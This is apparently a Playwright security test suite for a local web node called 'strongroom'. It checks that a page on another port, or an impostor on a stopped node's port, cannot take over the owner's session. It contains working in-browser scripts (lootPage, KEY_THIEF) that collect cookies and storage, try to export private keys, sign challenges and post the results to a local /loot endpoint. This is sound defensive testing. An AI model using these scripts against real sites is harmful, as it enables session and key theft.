import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { rawRequest } from '../support/network/rawRequest.ts';
import { expect, test } from './support/fixtures.ts';
import { startNode } from './support/nodeProcess.ts';
import { signIn } from './support/signIn.ts';

/** A request that another program received. */
interface Received {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  body: string;
}

type Answer = (request: Received) => { status?: number; type?: string; body: string };

/** A program of somebody else on this machine: it answers what it likes and keeps all that it is sent. */
class Impostor {
  readonly received: Received[] = [];
  readonly #server: Server;

  private constructor(answer: Answer) {
    this.#server = createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const { method = '', url: path = '', headers } = request;
        const received = { method, path, headers, body: Buffer.concat(chunks).toString() };
        this.received.push(received);
        const { status = 200, type = 'application/json', body } = answer(received);
        response.writeHead(status, { 'Content-Type': type }).end(body);
      });
    });
  }

  static async open(port: number, answer: Answer): Promise<Impostor> {
    const impostor = new Impostor(answer);
    await new Promise<void>((listening) => impostor.#server.listen(port, '127.0.0.1', listening));
    return impostor;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  /** What the scripts of its page posted. */
  get loot(): string[] {
    return this.received.filter(({ path }) => path === '/loot').map(({ body }) => body);
  }

  async close(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((closed) => this.#server.close(closed));
  }
}

/** Reads all that a script of this origin can, and what the node answers to it. */
function lootPage(node: string): string {
  return `<!doctype html><script type="module">
    const kept = { cookie: document.cookie, local: { ...localStorage }, session: { ...sessionStorage } };
    kept.databases = await indexedDB.databases();
    kept.caches = await caches.keys();
    for (const path of ['/api/session', '/manage/settings'])
      kept[path] = await fetch('${node}' + path, { credentials: 'include' }).then((r) => r.text(), String);
    await fetch('${node}/manage/settings', { method: 'PATCH', mode: 'no-cors', credentials: 'include', body: '{}' }).catch(() => {});
    await fetch('/loot', { method: 'POST', credentials: 'include', body: JSON.stringify(kept) });
    document.title = 'done';
  </script>`;
}

/** Sends what was received to the node again, and with it asks for what only the owner gets. Returns what was answered. */
async function replay(node: string, { method, path, headers, body }: Received): Promise<number[]> {
  const sent: Record<string, string> = { Host: new URL(node).host, 'Sec-Fetch-Site': 'same-origin' };
  for (const name of ['cookie', 'authorization', 'origin', 'user-agent', 'content-type'])
    if (headers[name] !== undefined) sent[name] = String(headers[name]);
  const same = await rawRequest(node + path, { method, headers: sent, ...(body && { body }) });
  const settings = await rawRequest(`${node}/manage/settings`, { headers: sent });
  const session = await rawRequest(`${node}/api/session`, { headers: sent });
  expect(session.body).not.toContain('"owner":true');
  expect(same.body).not.toContain('"token"');
  return [same.status, settings.status];
}

test('a page at another port gets nothing that makes it the owner', async ({ page, node, browser }) => {
  await page.goto('/settings');
  await expect(page.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible();
  const impostor = await Impostor.open(0, ({ path }) =>
    path === '/' ? { type: 'text/html', body: lootPage(node.url) } : { body: '{}' },
  );
  try {
    // The owner's browser, without the checks: this page asks for what is refused.
    const led = await page.context().newPage();
    await led.goto(impostor.url);
    await expect(led).toHaveTitle('done');
    expect(impostor.received.map(({ headers }) => headers.cookie)).toEqual(
      impostor.received.map(() => undefined),
    );
    const [kept = '{}'] = impostor.loot;
    expect(JSON.parse(kept)).toMatchObject({ cookie: '', local: {}, session: {}, databases: [], caches: [] });
    expect(kept).not.toContain('"owner":true');
    for (const received of impostor.received)
      expect((await replay(node.url, received))[1], received.path).toBe(401);
    // Nor does a cookie of the name that sessions had.
    await led.close();
    expect(await page.context().cookies()).toEqual([]);
  } finally {
    await impostor.close();
  }
  expect(browser.isConnected()).toBe(true);
});

/** Takes the keys that a page of the node left, and signs what the impostor may have use for. */
const KEY_THIEF = `<!doctype html><script type="module">
  const opened = (request) => new Promise((done, failed) => {
    request.onsuccess = () => done(request.result);
    request.onerror = () => failed(request.error);
  });
  const loot = { cookie: document.cookie, local: { ...localStorage }, proofs: [], exported: [] };
  const database = await opened(indexedDB.open('strongroom-owner'));
  const keys = await opened(database.transaction('keys').objectStore('keys').getAll());
  loot.keys = keys.length;
  for (const { privateKey, publicKey } of keys) {
    for (const form of ['pkcs8', 'jwk'])
      loot.exported.push(await crypto.subtle.exportKey(form, privateKey).then(JSON.stringify, String));
    for (const challenge of ['0'.repeat(64), 'f'.repeat(64)]) {
      const text = new TextEncoder().encode('strongroom session\\n' + location.origin + '\\n' + challenge);
      const signed = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, privateKey, text);
      const signature = btoa(String.fromCharCode(...new Uint8Array(signed)));
      loot.proofs.push({ public_key: publicKey, challenge, signature });
    }
  }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
  document.title = 'done';
</script>`;

interface Loot {
  keys: number;
  exported: string[];
  proofs: object[];
}

test('what an impostor at the port of a stopped node gets is worth nothing when the node is back', async ({
  browser,
  web: _web,
}, { outputDir }) => {
  const dataFolder = `${outputDir}/data`;
  const first = await startNode({ dataFolder });
  const port = Number(new URL(first.url).port);
  const context = await browser.newContext({ baseURL: first.url });
  const page = await context.newPage();
  await signIn(page, first.signInLink);
  await page.goto('/timeline');
  await expect(page.getByRole('navigation').first().getByRole('link', { name: 'Settings' })).toBeVisible();
  const name = ((await (await page.request.get('/api/session')).json()) as { node: string }).node;
  await first.stop();

  // It answers as the node would, so that the page goes on.
  let isThief = false;
  const impostor = await Impostor.open(port, ({ method, path }) => {
    if (path === '/api/session/challenge')
      return { body: JSON.stringify({ challenge: 'a'.repeat(64), node: name }) };
    if (path === '/api/session' && method === 'POST')
      return {
        status: 201,
        body: JSON.stringify({
          token: `session-se_${'0'.repeat(20)}-${'0'.repeat(64)}`,
          ticket_key: '0'.repeat(64),
          time: new Date().toISOString(),
        }),
      };
    if (path === '/loot') return { body: '{}' };
    if (isThief) return { type: 'text/html', body: KEY_THIEF };
    return {
      status: 401,
      type: 'application/problem+json',
      body: '{"code":"owner_required","detail":"Sign in.","status":401}',
    };
  });
  const settings = page.getByRole('navigation').first().getByRole('link', { name: 'Settings' });
  await settings.click();
  await expect
    .poll(() => impostor.received.some(({ headers }) => headers.authorization?.includes('session-')))
    .toBe(true);
  await expect
    .poll(() => impostor.received.some(({ path, method }) => path === '/api/session' && method === 'POST'))
    .toBe(true);
  // The stream of events tries again after some seconds.
  await expect.poll(() => impostor.received.some(({ path }) => path.includes('ticket='))).toBe(true);
  isThief = true;
  await page.goto('/');
  await expect(page).toHaveTitle('done');
  const loot = JSON.parse(impostor.loot.at(-1) ?? '{}') as Loot;
  expect(loot).toMatchObject({ cookie: '', keys: 1 });
  for (const exported of loot.exported) expect(exported).toContain('not extractable');
  await page.close();
  await impostor.close();

  const again = await startNode({ dataFolder, args: ['--no-collect', '--port', String(port)] });
  try {
    expect(again.url).toBe(first.url);
    for (const received of impostor.received) {
      const [same, asOwner] = await replay(again.url, received);
      expect(asOwner, received.path).toBe(401);
      if (received.headers.authorization !== undefined || received.path.includes('ticket='))
        expect(same, received.path).toBe(401);
    }
    const headers = { 'Content-Type': 'application/json', Origin: again.url };
    for (const proof of loot.proofs) {
      const answer = await rawRequest(`${again.url}/api/session`, {
        method: 'POST',
        headers,
        body: JSON.stringify(proof),
      });
      expect(answer.status).toBe(401);
    }
    // The browser of the owner is still signed in.
    const back = await context.newPage();
    await back.goto('/settings');
    await expect(back.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible();
  } finally {
    await again.stop();
    await context.close();
  }
});

test('an open page goes on as the owner’s after the node has started again', async ({ browser }, {
  outputDir,
}) => {
  const dataFolder = `${outputDir}/data`;
  const first = await startNode({ dataFolder });
  const port = Number(new URL(first.url).port);
  const context = await browser.newContext({ baseURL: first.url });
  const page = await context.newPage();
  await signIn(page, first.signInLink);
  const settings = page.getByRole('navigation').first().getByRole('link', { name: 'Settings' });
  await expect(settings).toBeVisible();
  await first.stop();
  const again = await startNode({ dataFolder, args: ['--no-collect', '--port', String(port)] });
  try {
    const asked = page.waitForRequest(
      (request) => request.url().includes('ticket=') && request.url() !== page.url(),
    );
    await settings.click();
    await page.getByRole('tab', { name: 'Browsers' }).click();
    await expect(page.getByRole('row', { name: /this one/ })).toHaveCount(1);
    await asked;
  } finally {
    await again.stop();
    await context.close();
  }
});
